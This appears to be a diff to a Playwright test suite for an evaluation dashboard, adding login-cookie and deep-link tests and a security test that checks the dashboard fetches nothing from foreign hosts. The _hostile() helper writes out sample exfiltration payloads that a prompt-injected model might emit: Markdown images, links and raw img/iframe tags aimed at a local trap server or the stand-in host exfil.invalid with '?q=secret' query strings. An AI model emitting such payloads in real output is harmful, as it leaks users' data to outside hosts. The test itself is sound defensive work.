@@ -212,14 +212,15 @@ def test_visitor_sees_only_the_login(server: dict, browser) -> None:
     assert page.get_by_test_id("stSidebarNav").count() == 0
 
 
-def test_claim_survives_reload(server: dict, browser) -> None:
+def test_claim_and_login_survive_reload(server: dict, browser) -> None:
     page = browser.new_context().new_page()
     _login(page, server["url"], "bob")
     page.get_by_role("button", name=re.compile("Claim next item")).click()
     before = _current_item(page)
-    page.reload()
-    _login(page, server["url"], "bob")
+    _settle(page)
+    page.reload()  # the signed login cookie logs bob back in: no login form, the same item
     assert _current_item(page) == before
+    assert page.get_by_role("button", name="Log in").count() == 0
 
 
 def test_runs_page_shows_the_regressed_case(server: dict, browser) -> None:
@@ -244,3 +245,162 @@ def test_runs_page_shows_the_regressed_case(server: dict, browser) -> None:
     assert first_row[headers.index("scorer")] == "geval:Correctness"
     assert float(first_row[headers.index("Δ")]) == pytest.approx(expected.mean_diff)
     assert expected.mean_diff == pytest.approx(-1 / 3)
+
+
+def _no_page_not_found(page) -> None:
+    _settle(page)
+    assert page.get_by_text("Page not found").count() == 0
+
+
+def test_deep_links_work_through_the_login_and_after_a_refresh(server: dict, browser) -> None:
+    url = server["url"]
+    context = browser.new_context()
+    page = context.new_page()
+    page.goto(url + "/calibration")  # a link a colleague sent, opened before logging in
+    page.get_by_text("Log in to review.").wait_for(timeout=30_000)
+    _no_page_not_found(page)
+    page.get_by_role("textbox", name="User name").fill("bob")
+    page.get_by_role("textbox", name="Password").fill(PASSWORDS["bob"])
+    page.get_by_role("button", name="Log in").click()
+    page.get_by_role("heading", name="Calibration").wait_for(timeout=30_000)  # where the link pointed
+    _no_page_not_found(page)
+    assert page.url.rstrip("/").endswith("/calibration")
+
+    page.goto(url + "/runs")  # a new page load: the remembered login opens the page directly
+    page.get_by_role("heading", name="Runs").wait_for(timeout=30_000)
+    _no_page_not_found(page)
+    page.reload()
+    page.get_by_role("heading", name="Runs").wait_for(timeout=30_000)
+    [cookie] = [c for c in context.cookies() if c["name"] == "evalharness_login"]
+    assert cookie["sameSite"] == "Strict"
+    assert cookie["expires"] - time.time() == pytest.approx(8 * 3600, abs=300)  # EVALHARNESS_LOGIN_TTL default
+
+    page.get_by_role("button", name="Log out").click()
+    page.get_by_text("Log in to review.").wait_for(timeout=30_000)
+    _settle(page)
+    page.goto(url + "/calibration")  # logged out: the cookie no longer logs anyone in
+    page.get_by_text("Log in to review.").wait_for(timeout=30_000)
+    assert page.get_by_role("heading", name="Calibration").count() == 0
+
+
+def test_reviewer_deep_link_to_an_admin_page_opens_review(server: dict, browser) -> None:
+    page = browser.new_context().new_page()
+    page.goto(server["url"] + "/queues")
+    page.get_by_role("textbox", name="User name").fill("bob")
+    page.get_by_role("textbox", name="Password").fill(PASSWORDS["bob"])
+    page.get_by_role("button", name="Log in").click()
+    page.get_by_role("heading", name="Review").wait_for(timeout=30_000)
+    _settle(page)
+    assert "Queues" not in page.locator("body").inner_text()
+
+
+def test_no_deploy_button(server: dict, browser) -> None:
+    page = browser.new_context().new_page()
+    _login(page, server["url"], "bob")
+    _settle(page)
+    assert page.get_by_test_id("stAppDeployButton").count() == 0
+    assert page.get_by_role("button", name="Deploy").count() == 0
+
+
+@pytest.fixture
+def trap() -> Iterator[dict]:
+    """A loopback HTTP server on another port that records every request: where an exfiltration would land."""
+    import threading
+    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+    hits: list[str] = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            hits.append(self.path)
+            self.send_response(200)
+            self.send_header("content-type", "image/png")
+            self.end_headers()
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    srv = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    thread = threading.Thread(target=srv.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield {"url": f"http://127.0.0.1:{srv.server_address[1]}", "hits": hits}
+    finally:
+        srv.shutdown()
+        srv.server_close()
+        thread.join(5)
+
+
+def _hostile(trap_url: str, where: str) -> str:
+    """Text a prompt-injected model might write: Markdown images and links, raw HTML, directives, LaTeX."""
+    return (
+        f"Answer for {where}. ![leak]({trap_url}/md-image-{where}.png?q=secret) "
+        f"![x](https://exfil.invalid/{where}?q=secret) <img src=\"{trap_url}/html-img-{where}.png\"> "
+        f"[click me]({trap_url}/link-{where}) <{trap_url}/autolink-{where}> "
+        f"<iframe src=\"{trap_url}/iframe-{where}\"></iframe> :material/warning: $x^2$ **bold**"
+    )
+
+
+def test_hostile_markdown_makes_no_request_beyond_the_dashboard(server: dict, browser, trap: dict) -> None:
+    from dashboard import JudgeView, NewItem
+
+    t = trap["url"]
+
+    def item(queue: str, overlap: int) -> NewItem:
+        return NewItem(
+            queue=queue,
+            source_id=f"hostile-{queue}",
+            input=_hostile(t, "input"),
+            output=_hostile(t, "output"),
+            context=_hostile(t, "context"),
+            expected=_hostile(t, "expected"),
+            criterion=f"quality ![c]({t}/criterion.png)",
+            scale=(1, 5),
+            categories=(f"good ![g]({t}/category.png)", "bad"),
+            judge_score=2.0,
+            judges=(JudgeView(_hostile(t, "model"), 2.0, {"1": 0.2, "2": 0.8}, _hostile(t, "reasoning")),),
+            reason=_hostile(t, "reason"),
+            priority=10.0,
+            overlap=overlap,
+        )
+
+    store = ReviewStore(server["db"])
+    store.add_items([item("escalation", 1), item("calibration", 2)])
+    for who, score in (("carol", 1.0), ("alice", 5.0)):  # a disagreement for the Calibration page
+        lease = store.claim_next(who, queue="calibration")
+        assert lease is not None
+        store.submit(lease, score=score, category="bad", note=_hostile(t, f"note-{who}"))
+    store.close()
+    base, new = run_pair()
+    write_run(base, server["results"] / "run-base.json")
+    write_run(new, server["results"] / "run-new.json")
+
+    context = browser.new_context()
+    requested: list[str] = []
+    context.on("request", lambda request: requested.append(request.url))
+    page = context.new_page()
+    _login(page, server["url"], "bob")
+    page.get_by_role("button", name=re.compile("Claim next item")).click()
+    _current_item(page)
+    for label in ("Context", "Expected"):
+        page.get_by_text(label, exact=True).click()
+    _settle(page)
+    body = page.locator("body").inner_text()
+    assert "Answer for output." in body and "Answer for reasoning." in body and "Answer for context." in body
+    assert "![leak](" in body  # shown as the characters the model wrote
+    page.get_by_test_id("stSidebarNav").get_by_role("link", name="Calibration").click()
+    page.get_by_role("heading", name="Calibration").wait_for(timeout=30_000)
+    _settle(page)
+    page.get_by_text(re.compile(r"^Item \d+: gap")).first.click()
+    _settle(page)
+    assert "Answer for input." in page.locator("body").inner_text()
+    page.get_by_test_id("stSidebarNav").get_by_role("link", name="Runs").click()
+    page.get_by_text("case q-drop · regressed · Δ -3.00").wait_for(timeout=30_000)
+    _settle(page)
+    page.wait_for_timeout(1000)
+
+    own = server["url"]
+    foreign = [u for u in requested if not (u.startswith((own + "/", "data:", "blob:")) or u == own)]
+    assert foreign == [], foreign
+    assert trap["hits"] == []
+    assert page.locator(f"img[src^='{t}'], iframe[src^='{t}'], img[src*='exfil.invalid']").count() == 0
